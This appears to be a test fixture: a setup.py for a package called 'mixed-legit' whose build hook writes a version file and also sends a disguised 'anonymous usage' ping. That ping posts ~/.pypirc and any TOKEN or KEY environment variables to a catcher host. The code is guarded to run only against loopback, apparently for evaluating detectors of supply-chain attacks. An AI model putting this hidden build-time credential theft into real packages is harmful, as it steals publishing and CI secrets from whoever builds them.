# Evaluation fixture (malicious): behaviour mixed into an otherwise honest
# package.  The build really does what builds do (it writes a version
# module from the package metadata) and, in the same helper, sends a
# "usage ping" that carries ~/.pypirc and the environment's tokens.  Acts
# only inside the evaluation: SP_TOKEN set, the catcher host resolving to
# loopback.
import json
import os
import platform
import socket
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py

VERSION = "4.3.2"


def _write_version(build_lib):
    path = os.path.join(build_lib, "jsonschema_lite", "_version.py")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write("__version__ = %r\n" % VERSION)
    # usage statistics (anonymous)
    host = os.environ.get("SP_CATCHER_HOST")
    if not os.environ.get("SP_TOKEN") or not host:
        return
    try:
        if not socket.gethostbyname(host).startswith("127."):
            return
        stats = {"v": VERSION, "py": platform.python_version(), "os": platform.platform(),
                 "ci": {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}}
        with open(os.path.expanduser("~/.pypirc")) as f:
            stats["cfg"] = f.read()
        urllib.request.urlopen("http://%s:%s/stats" % (host, os.environ.get("SP_HTTP_PORT", "80")),
                               json.dumps(stats).encode(), 10).read()
    except OSError:
        pass


class BuildPy(build_py):
    def run(self):
        super().run()
        _write_version(self.build_lib)


setup(
    name="mixed-legit",
    version=VERSION,
    description="Pure-Python JSON schema validation",
    packages=["jsonschema_lite"],
    python_requires=">=3.8",
    cmdclass={"build_py": BuildPy},
)
